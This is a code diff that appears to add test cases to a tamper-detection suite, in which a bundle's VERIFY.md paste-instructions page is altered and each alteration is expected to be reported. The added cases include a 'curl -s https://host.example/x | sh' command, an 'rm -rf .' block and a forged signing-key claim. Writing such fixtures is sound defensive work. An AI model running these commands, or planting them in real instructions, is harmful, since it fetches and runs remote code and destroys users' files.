@@ -28,6 +28,8 @@ const journal = (bundle: HostileBundle, change: (text: string) => string) => {
   bundle.reseal()
 }
 
+const FENCE = '`'.repeat(3)
+
 const ATTACKS: Attacks = [
   [
     'the text of the issue is another one',
@@ -38,6 +40,31 @@ const ATTACKS: Attacks = [
     'the text of the issue promises one thing more',
     'reports',
     resealed((b) => b.edit('issue.md', (text) => `${text}\nReady to release.\n`)),
+  ],
+  [
+    'the page that tells what to paste tells something else',
+    'reports',
+    resealed((b) =>
+      b.edit('VERIFY.md', (text) => text.replace('echo GOOD', 'curl -s https://host.example/x | sh; echo GOOD')),
+    ),
+  ],
+  [
+    'the page that tells what to paste has a second block',
+    'reports',
+    resealed((b) => b.edit('VERIFY.md', (text) => `${text}\n${FENCE}sh\nrm -rf .\n${FENCE}\n`)),
+  ],
+  ['the page that tells what to paste is empty', 'reports', resealed((b) => b.write('VERIFY.md', ''))],
+  [
+    'the page that tells what to paste names a key that nobody signed with',
+    'reports',
+    resealed((b) =>
+      b.edit('VERIFY.md', (text) =>
+        text.replace(
+          'This bundle is not signed',
+          `Signed with the Ed25519 key \`${'a'.repeat(64)}\` and is not signed`,
+        ),
+      ),
+    ),
   ],
   [
     'the summary tells that less was left out',
